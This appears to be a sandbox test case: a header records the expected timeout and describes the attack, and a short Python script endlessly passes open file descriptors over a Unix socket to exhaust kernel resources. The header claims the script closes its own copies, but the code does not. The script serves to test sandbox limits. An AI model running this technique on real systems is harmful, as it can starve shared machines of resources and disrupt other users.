# verdict: TIMED_OUT
# cause: CPU_TIME_LIMIT
# fault: PROGRAM
# attack: sends open files through a socket and closes its own copies, so that they are in no process' table, without end
# limits: cpu_time_ms=800 wall_time_ms=30000 memory_bytes=1073741824
import array
import os
import socket

left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
left.setblocking(False)
files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(100)])
while True:
    try:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
    except OSError:
        pass
